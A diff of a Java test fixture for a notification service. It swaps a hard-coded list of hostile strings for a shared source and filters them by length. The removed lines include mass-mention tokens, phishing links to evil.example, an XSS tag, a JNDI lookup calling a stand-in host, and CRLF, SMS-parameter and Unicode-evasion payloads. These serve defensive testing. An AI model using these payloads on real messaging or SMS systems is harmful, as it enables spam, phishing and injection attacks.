@@ -1,107 +1,19 @@
 package org.vigie.notification.http;
 
-import java.util.List;
 import java.util.stream.Stream;
+import org.vigie.support.HostileTexts;
 
 /** Texts that would do something if a channel read them as more than text. */
 public final class Injections {
 
-    private static final List<String> ALL = List.of(
-            "@everyone",
-            "@here",
-            "@channel",
-            "<!channel>",
-            "<!here>",
-            "<!everyone>",
-            "<!subteam^S012AB3CD|@oncall>",
-            "<!date^1392734382^{date}|x>",
-            "<@U012AB3CD>",
-            "<@!123456789012345678>",
-            "<@123456789012345678>",
-            "<@&123456789012345678>",
-            "<#C012AB3CD|general>",
-            "<#123456789012345678>",
-            "</do:123456789012345678>",
-            "<:smile:123456789012345678>",
-            "<a:party:123456789012345678>",
-            "<t:1700000000:R>",
-            "<id:customize>",
-            "<https://evil.example|click here>",
-            "<mailto:a@b.org|mail us>",
-            "[click](https://evil.example)",
-            "[click](<https://evil.example>)",
-            "![x](https://evil.example/x.png)",
-            "https://evil.example/vigie.example",
-            "https://vigie.example.evil.example/login",
-            "https://vigie.example@evil.example/login",
-            "https://vigie.example:pw@evil.example/",
-            "https://vigie.example/x|<!channel>",
-            "https://vigie.example/x><!channel>",
-            "https://vigie.example/)[x](https://evil.example)",
-            "javascript:alert(1)",
-            "*bold*",
-            "**bold**",
-            "_italic_",
-            "__under__",
-            "~strike~",
-            "~~strike~~",
-            "`code`",
-            "```\ncode\n```",
-            "||spoiler||",
-            "> quote",
-            ">>> quote all",
-            "# heading",
-            "-# small",
-            "- list",
-            "1. list",
-            ":skull:",
-            "\\@everyone",
-            "\\<!channel>",
-            "\\\\@everyone",
-            "\\",
-            "&lt;!channel&gt;",
-            "&amp;lt;!channel&amp;gt;",
-            "&#60;!channel&#62;",
-            "&",
-            "\"",
-            "\", \"allowed_mentions\": {\"parse\": [\"everyone\"]}, \"x\": \"",
-            "\"}], \"blocks\": [{\"type\": \"image\"}",
-            "{\"content\": \"@everyone\"}",
-            "'\"--><script>alert(1)</script>",
-            "{{constructor}}",
-            "${jndi:ldap://evil.example/x}",
-            "%0d%0aX-Evil: 1",
-            "a\r\nX-Evil: 1\r\n\r\n{}",
-            "a\nTo: +33600000000",
-            "&To=%2B33600000000&Body=x",
-            "x&From=EVIL",
-            "+",
-            "%00",
-            "a\u0000b",
-            "\u0007\u001b[31mred\u001b[0m",
-            "\u202Eenoyreve@\u202C",
-            "\u2066@everyone\u2069",
-            "@\u200beveryone",
-            "@\uFEFFeveryone",
-            "\uD83D",
-            "\uDE00 half",
-            "\uFF20everyone \uFF1C!channel\uFF1E",
-            "👩‍👩‍👧‍👦 e\u0301 🇫🇷",
-            "\u2028<!channel>\u2029",
-            "<<!channel>>",
-            "<!chan<!channel>nel>",
-            "@@everyone",
-            "@e\u200dveryone",
-            "<|>",
-            "|",
-            "]]>",
-            "<!--",
-            "\t@here");
+    private static final int LONGEST = 500;
 
     private Injections() {}
 
-    /** Each by itself, and in the middle of a sentence. */
+    /** Each by itself, and in the middle of a sentence; what long ones become is tested by itself. */
     public static Stream<String> all() {
-        return ALL.stream().flatMap(text -> Stream.of(text, "Le service " + text + " est arrêté"));
+        return HostileTexts.all()
+                .filter(text -> text.length() < LONGEST)
+                .flatMap(text -> Stream.of(text, "Le service " + text + " est arrêté"));
     }
 }
